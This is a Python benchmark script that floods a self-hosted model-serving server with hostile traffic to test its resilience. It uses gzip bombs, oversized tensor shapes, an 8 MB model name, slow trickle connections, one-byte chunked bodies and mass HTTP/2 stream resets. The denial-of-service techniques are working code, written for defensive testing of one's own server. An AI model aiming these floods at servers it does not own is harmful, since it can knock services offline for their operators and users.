"""Requests of strangers, one after the other, until it is ended: a process of its own.

    python benchmarks/hostile.py --target HOST:PORT --rest HOST:PORT --model NAME --seconds 300

Attacks the local server as tests/attack does: bombs of tensors and of gzip, requests that are
abandoned, names of 8 MB, streams without a message or that are reset at once, answers that nobody
reads, connections that trickle, bodies in chunks of a byte. `serving_load.py --hostile` starts it
beside good clients. To be pointed at one's own server alone.
"""

from __future__ import annotations

import argparse
import gzip
import http.client
import itertools
import json
import socket
import threading
import time
from collections import Counter
from collections.abc import Callable

import grpc

from serving.client import protobuf as messages

PREDICT = "/tensorflow.serving.PredictionService/Predict"
ZEROS = gzip.compress(b"\0" * 2**24) * 128  # 2 GiB in 2 MB
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_STREAM, END_HEADERS = 1, 4
CANCEL = (8).to_bytes(4, "big")


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of HTTP/2 (RFC 9113 4.1)."""
    head = len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
    return head + payload


def call_head() -> bytes:
    """The headers of a Predict call, without compression (RFC 7541 6.2.2)."""
    fields = {
        b":method": b"POST",
        b":scheme": b"http",
        b":path": PREDICT.encode(),
        b":authority": b"x",
        b"content-type": b"application/grpc",
        b"te": b"trailers",
        b"x-request-id": b"7",
    }
    return b"".join(
        b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value
        for name, value in fields.items()
    )


class Stranger:
    """Attacks on one server, and what became of them."""

    def __init__(self, target: str, rest: str, model: str):
        self.target, self.model = target, model
        self.host, _, port = rest.partition(":")
        self.rest_port = int(port)
        self.answers: Counter[str] = Counter()

    def request(self, text: bytes, rows: int, sent: int = 1, signature: str = "translate") -> bytes:
        """A Predict request that declares `rows` texts and sends some of them."""
        made = messages.PredictRequest()
        made.model_spec.name, made.model_spec.signature_name = self.model, signature
        tensor = made.inputs["text"]
        tensor.CopyFrom(messages.string_tensor([text] * sent))
        tensor.tensor_shape.dim[0].size = rows
        return made.SerializeToString()

    def send(self, data: bytes, count: int = 1, patience: float = 10) -> None:
        """Send a request `count` times at once over a new channel; leave after `patience`."""
        with grpc.insecure_channel(self.target) as channel:
            calls = [
                channel.unary_unary(PREDICT).future(data, timeout=patience) for _ in range(count)
            ]
            for call in calls:
                self.answers[call.code().name] += 1

    def post(self, body: bytes, **headers: str) -> None:
        """Send a REST request."""
        connection = http.client.HTTPConnection(self.host, self.rest_port, timeout=30)
        try:
            path = f"/v1/models/{self.model}:predict"
            connection.request(
                "POST", path, body, {k.replace("_", "-"): v for k, v in headers.items()}
            )
            self.answers[f"HTTP {connection.getresponse().status}"] += 1
        except OSError as error:
            self.answers[type(error).__name__] += 1
        finally:
            connection.close()

    def trickle(self) -> None:
        """Ten connections that send a byte a second for a minute, or as long as they may."""
        sockets = []
        for _ in range(10):
            sockets.append(socket.create_connection((self.host, self.rest_port), timeout=5))
            sockets[-1].sendall(b"POST /v1/models/x:predict HTTP/1.1\r\nHost: x\r\nX: ")
        for _ in range(60):
            for one in list(sockets):
                try:
                    one.sendall(b"a")
                except OSError:
                    self.answers["trickle ended"] += 1
                    sockets.remove(one)
            time.sleep(1)

    def chunks(self, megabytes: float = 8, size: int = 1) -> None:
        """Four bodies in chunks of `size` bytes."""
        chunks = (b"%x\r\n" % size + b" " * size + b"\r\n") * 2**13

        def send() -> None:
            with socket.create_connection((self.host, self.rest_port), timeout=30) as connection:
                path = f"/v1/models/{self.model}:predict"
                head = f"POST {path} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
                connection.sendall(head.encode())
                try:
                    for _ in range(int(megabytes * 1e6) // len(chunks)):
                        connection.sendall(chunks)
                    connection.sendall(b"0\r\n\r\n")
                    connection.recv(1)
                except OSError:
                    self.answers["chunks ended"] += 1

        self._at_once(send)

    def streams(self, count: int, *, reset: bool) -> None:
        """`count` calls on each of four connections, reset at once or with answers left unread."""
        host, _, port = self.target.rpartition(":")
        head = call_head()

        def send() -> None:
            with socket.create_connection((host, int(port)), timeout=5) as connection:
                connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
                for first in range(1, 2 * count, 200):
                    frames = b""
                    for stream in range(first, first + 200, 2):
                        flags = END_HEADERS if reset else END_HEADERS | END_STREAM
                        frames += frame(HEADERS, flags, stream, head)
                        frames += frame(RST_STREAM, 0, stream, CANCEL) if reset else b""
                    try:
                        connection.sendall(frames)
                    except OSError:
                        self.answers["streams ended"] += 1
                        return
                if not reset:
                    time.sleep(2)

        self._at_once(send)

    @staticmethod
    def _at_once(send: Callable[[], None], times: int = 4) -> None:
        threads = [threading.Thread(target=send, daemon=True) for _ in range(times)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def idle_streams(self) -> None:
        """Fifty calls that never send their message."""
        stop = threading.Event()

        def never():  # type: ignore[no-untyped-def]
            stop.wait(20)
            yield from ()

        with grpc.insecure_channel(self.target) as channel:
            calls = [channel.stream_unary(PREDICT).future(never(), timeout=30) for _ in range(50)]
            time.sleep(20)
            stop.set()
            for call in calls:
                self.answers[call.code().name] += 1

    def attacks(self) -> list[tuple[str, float, Callable[[], None]]]:
        """(name, seconds of pause, attack)."""
        words = b" ".join([b"The green apple is on the table."] * 1429)
        nested = [[0.5] * 300] * 300
        twice = json.dumps({"inputs": nested, "instances": nested}).encode()
        signatures = itertools.cycle(["translate", "nbest", "align"])
        big_name = Stranger(self.target, f"{self.host}:{self.rest_port}", "x" * 8_000_000)
        big_name.answers = self.answers
        return [
            ("tensor of 2^40", 0.2, lambda: self.send(self.request(b"a", 2**40))),
            ("2,000 rows", 0.2, lambda: self.send(self.request(b"a", 2000), 20)),
            ("1,000 rows, left", 2, lambda: self.send(self.request(b"a b c", 1000), 20, 0.5)),
            ("10,000 words, left", 1, lambda: self.send(self.request(words, 1), 4, 0.5)),
            (
                "small, left",
                1,
                lambda: self.send(self.request(b"a b", 1, 1, next(signatures)), 20, 0.02),
            ),
            ("name of 8 MB", 5, lambda: big_name.send(big_name.request(b"a", 1))),
            ("gzip bomb", 5, lambda: self.post(ZEROS, Content_Encoding="gzip")),
            ("nested lists", 2, lambda: self.post(twice)),
            ("5,000 digits", 0.5, lambda: self.post(b'{"instances": [' + b"7" * 5000 + b"]}")),
            ("lone surrogate", 0.5, lambda: self.post(b'{"instances": ["\\ud800"]}')),
            ("trickle", 1, self.trickle),
            ("streams without a message", 1, self.idle_streams),
            ("chunks of a byte", 5, self.chunks),
            ("10,000 resets", 5, lambda: self.streams(10_000, reset=True)),
            ("9,000 unread answers", 5, lambda: self.streams(9_000, reset=False)),
        ]

    def attack(self, seconds: float) -> None:
        """Carry out all attacks at once, each again and again."""
        end = time.monotonic() + seconds

        def repeat(pause: float, attack: Callable[[], None]) -> None:
            while time.monotonic() < end:
                try:
                    attack()
                except (OSError, grpc.RpcError) as error:
                    self.answers[type(error).__name__] += 1
                time.sleep(pause)

        for _, pause, attack in self.attacks():
            threading.Thread(target=repeat, args=(pause, attack), daemon=True).start()
        time.sleep(max(0.0, end - time.monotonic()))


def main() -> None:
    """Run the command."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--target", required=True, help="gRPC address of one's own server")
    parser.add_argument("--rest", required=True, help="its REST address")
    parser.add_argument("--model", required=True, help="name of a model that it serves")
    parser.add_argument("--seconds", type=float, default=60, help="how long")
    options = parser.parse_args()
    stranger = Stranger(options.target, options.rest, options.model)
    stranger.attack(options.seconds)
    print(json.dumps(stranger.answers), flush=True)


if __name__ == "__main__":
    main()
